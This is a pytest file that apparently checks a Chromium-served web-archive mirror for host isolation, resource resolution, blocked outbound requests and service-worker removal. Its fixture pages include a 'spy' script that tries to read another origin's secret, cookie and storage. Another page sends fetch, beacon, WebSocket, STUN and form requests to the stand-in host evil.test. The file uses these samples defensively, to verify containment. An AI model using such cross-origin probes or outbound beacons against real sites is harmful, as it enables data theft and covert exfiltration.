"""A served mirror in Chromium: hosts are apart, scripts find what the capture holds, nothing leaves, nothing stays."""

import time
import zlib
from collections.abc import Iterator
from pathlib import Path
from struct import pack
from typing import Any

import pytest
from packed import mirrored

from tests.browser_online import Online, served
from tests.browser_page import Page
from tests.shapes.captures import page

OUT = "evil.test"


def png(width: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return pack(">I", len(data)) + kind + data + pack(">I", zlib.crc32(kind + data))

    head = pack(">IIBBBBB", width, 1, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(*one) for one in ((b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * (width + 1))), (b"IEND", b"")))


def font() -> bytes:
    """Return a font of the system: a browser loads no other bytes as one; empty without any."""
    return next((path.read_bytes() for path in sorted(Path("/usr/share/fonts").rglob("*.ttf"))), b"")


def with_cors(media_type: str, origins: str) -> str:
    return f"{media_type}\r\nAccess-Control-Allow-Origin: {origins}"


# a page of a.com that tries to read b.com, of which a mirror has links in its pages
SPY = b"""<!DOCTYPE html><meta charset=utf-8><title>spy</title><link rel=stylesheet href=//b.com/s.css><img src=//b.com/i.png>
<iframe id=f src=//b.com/secret.html></iframe><script>
const found = {}, at = name => location.origin.replace('a.com', 'b.com') + name;
const tried = async (name, what) => { try { found[name] = String(await what()) } catch (error) { found[name] = 'error' } };
const loaded = new Promise(done => addEventListener('load', done));
const done = (async () => {
  await loaded;
  for (const path of ['/b.com/secret.html', at('/secret.html'), at('/b.com/secret.html')])
    await tried('fetch ' + path.replace(/:.*0/, ''), async () => (await fetch(path)).text());
  await tried('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', '/b.com/secret.html', false); x.send(); return x.responseText });
  await tried('no-cors', async () => (await fetch('/b.com/secret.html', {mode: 'no-cors'})).text());
  await tried('frame', () => document.getElementById('f').contentDocument.body.textContent);
  await tried('frame window', () => document.getElementById('f').contentWindow.secret);
  await tried('canvas', () => { const c = document.createElement('canvas'); c.getContext('2d').drawImage(document.images[0], 0, 0);
    return c.toDataURL() });
  await tried('sheet', () => document.styleSheets[0].cssRules.length);
  await tried('module', () => import('/b.com/secret.json'));
  await tried('storage', () => localStorage.getItem('secret') ?? 'error');
  await tried('cookie', () => document.cookie.includes('secret') ? document.cookie : 'error');
  await tried('domain', () => { document.domain = 'com.localhost'; return document.getElementById('f').contentWindow.secret });
  return {found, width: document.images[0].naturalWidth, color: getComputedStyle(document.body).color};
})();
</script>"""
SECRET = b"""<!DOCTYPE html><title>b</title><body>secret<script>var secret = 'secret'; localStorage.setItem('secret', 'secret');
document.cookie = 'secret=secret'</script>"""

# a page that works by the URLs of its host
APP = b"""<!DOCTYPE html><title>app</title><meta http-equiv=content-security-policy content="img-src 'self' cdn.net"><link rel=stylesheet href=style.css><script type=module src=/js/app.js></script>
<script>window.asked = (async () => ({
  api: await (await fetch('/api.json')).text(), query: await (await fetch('/api.json?q=1')).text(),
  relative: await (await fetch('data/x.json')).text(), gone: (await fetch('/gone')).status, path: location.pathname + location.search,
  cors: await (await fetch('../cdn.net/open.json')).text().catch(() => 'error'),
  closed: await fetch('../cdn.net/closed.json').then(r => r.text()).catch(() => 'error'),
  mine: await fetch('../cdn.net/mine.json').then(r => r.text()).catch(() => 'error'),
}))()</script><a href="/next/?page=2#here">next</a><img src=//cdn.net/i.png>"""
CSS = b"@import '//cdn.net/more.css'; @font-face { font-family: open; src: url(//cdn.net/open.ttf) } p { font-family: open }"

# Chromium connects to the host of a frame, without a request, before it asks the policy: http shows requests only
LEAVES = f"""<!DOCTYPE html><title>leaves</title><link rel=preconnect href=https://pre.{OUT}><link rel=dns-prefetch href=//dns.{OUT}>
<link rel=prefetch href=https://prefetch.{OUT}/><link rel=preload as=image href=https://preload.{OUT}/><link rel=icon href=https://icon.{OUT}/>
<link rel=stylesheet href=https://style.{OUT}/><link rel=manifest href=https://manifest.{OUT}/><link rel=modulepreload href=https://m.{OUT}/>
<script type=speculationrules>{{"prefetch": [{{"urls": ["https://rules.{OUT}/"]}}], "prerender": [{{"urls": ["https://render.{OUT}/"]}}]}}</script>
<img src=https://img.{OUT}/ srcset="https://set.{OUT}/ 2x"><script src=https://script.{OUT}/></script><iframe src=http://frame.{OUT}/></iframe>
<video src=https://video.{OUT}/ poster=https://poster.{OUT}/></video><object data=https://object.{OUT}/></object>
<embed src=https://embed.{OUT}/><form id=f method=post action=http://form.{OUT}/ target=t><input name=a></form><iframe name=t></iframe>
<style>body {{ background: url(https://css.{OUT}/) }} @import url(https://import.{OUT}/);</style>
<iframe srcdoc="<img src=https://srcdoc.{OUT}/>"></iframe><iframe src="data:text/html,<img src=https://data.{OUT}/>"></iframe>
<script>
const quiet = what => {{ try {{ const r = what(); r && r.catch && r.catch(() => 0) }} catch {{}} }};
quiet(() => fetch('https://fetch.{OUT}/', {{mode: 'no-cors'}})); quiet(() => navigator.sendBeacon('https://beacon.{OUT}/', 'x'));
quiet(() => new WebSocket('wss://socket.{OUT}/')); quiet(() => new EventSource('https://events.{OUT}/'));
quiet(() => new Worker('https://worker.{OUT}/')); quiet(() => import('https://module.{OUT}/'));
quiet(() => new Worker(URL.createObjectURL(new Blob(["fetch('https://blob.{OUT}/'); importScripts('https://scripts.{OUT}/')"]))));
quiet(() => document.getElementById('f').submit()); quiet(() => new Image().src = 'http://web.example/gone.png');
quiet(() => {{ const r = new XMLHttpRequest(); r.open('GET', 'https://xhr.{OUT}/'); r.send() }});
quiet(() => {{ const p = new RTCPeerConnection({{iceServers: [{{urls: 'stun:stun.{OUT}'}}]}}); p.createDataChannel('x');
  p.createOffer().then(o => p.setLocalDescription(o)) }});
quiet(() => new WebTransport('https://transport.{OUT}/'));
</script>""".encode()
WORKER = b"""<!DOCTYPE html><title>worker</title><script>window.asked = (async () => {
  const said = await navigator.serviceWorker.register('/sw.js').then(() => 'registered', error => error.name);
  return {said, left: (await navigator.serviceWorker.getRegistrations()).length, script: await (await fetch('/sw.js')).text()};
})()</script>"""


@pytest.fixture(scope="module")
def port(tmp_path_factory: pytest.TempPathFactory) -> Iterator[int]:
    folder = tmp_path_factory.mktemp("served")
    json = "application/json"
    data = [
        page("http://a.com/spy.html", SPY),
        *(page("http://b.com/secret.html", SECRET), page("http://b.com/i.png", png(7), "image/png")),
        *(page("http://b.com/secret.json", b"{}", json), page("http://b.com/s.css", b"body { color: red }", "text/css")),
        *(page("https://app.net/", APP), page("https://app.net/style.css", CSS, "text/css")),
        page("https://app.net/js/app.js", b"import {b} from '/js/b.js?v=2'; window.module = b", "text/javascript"),
        page("https://app.net/js/b.js?v=2", b"export const b = 'b'", "text/javascript"),
        *(page("https://app.net/api.json", b"1", json), page("https://app.net/api.json?q=1", b"2", json)),
        *(page("https://app.net/data/x.json", b"3", json), page("https://app.net/next/?page=2", b"<title>next</title><p id=here>x")),
        page("https://cdn.net/open.json", b"open", with_cors(json, "*")),
        page("https://cdn.net/mine.json", b"mine", with_cors(json, "https://app.net")),
        page("https://cdn.net/closed.json", b"closed", with_cors(json, "https://other.net")),
        page("https://cdn.net/more.css", b"body { color: rgb(1, 2, 3) }", "text/css"),
        *(page("https://cdn.net/i.png", png(9), "image/png"), page("https://cdn.net/open.ttf", font(), with_cors("font/ttf", "*"))),
        *(page("http://out.com/", LEAVES), page("http://w.com/", WORKER)),
        page("http://w.com/sw.js", b"self.addEventListener('fetch', () => 0)", "text/javascript"),
    ]
    assert mirrored(folder, "c.warc", b"".join(data))[0] == 0
    with served(folder / "m") as found:
        yield found


def opened(online: Online, url: str) -> Page:
    return Page(online.chromium, url)


def test_no_host_reads_another(online: Online, port: int) -> None:
    found: dict[str, Any] = opened(online, f"http://a.com.localhost:{port}/spy.html").value("done")
    assert found["width"] == 7  # what is embedded works as on the web
    assert found["color"] == "rgb(255, 0, 0)"
    assert len(found["found"]) == 13
    assert set(found["found"].values()) <= {"error", "", "undefined"}, found["found"]


def test_scripts_find_what_the_capture_of_their_host_holds(online: Online, port: int) -> None:
    one = opened(online, f"http://127.0.0.1:{port}/app.net/index.html")
    assert one.value("asked") == {
        "api": "1",
        "query": "2",
        "relative": "3",
        "gone": 404,
        "path": "/",
        "cors": "open",
        "closed": "error",
        "mine": "mine",
    }
    assert one.value("location.host") == f"app.net.localhost:{port}"
    assert one.value("window.module") == "b"
    assert one.value("document.images[0].naturalWidth") == 9
    assert one.value("getComputedStyle(document.body).color") == "rgb(1, 2, 3)"
    if font():
        assert one.value("document.fonts.load('10px open').then(found => found[0].status)") == "loaded"
    one.do(lambda: one.page.click("a"))
    one.do(one.page.wait_for_load_state)
    assert one.value("location.pathname + location.search + location.hash") == "/next/?page=2#here"


def test_no_request_leaves_the_mirror(online: Online, port: int) -> None:
    online.trap.seen.clear()
    online.web.asked.clear()
    opened(online, f"http://out.com.localhost:{port}/")
    time.sleep(2)
    assert [line for line in online.trap.seen if OUT in line] == []
    assert online.web.asked == []


def test_no_service_worker_stays(online: Online, port: int) -> None:
    found = opened(online, f"http://w.com.localhost:{port}/").value("asked")
    assert found == {"said": "TypeError", "left": 0, "script": "self.addEventListener('fetch', () => 0)"}
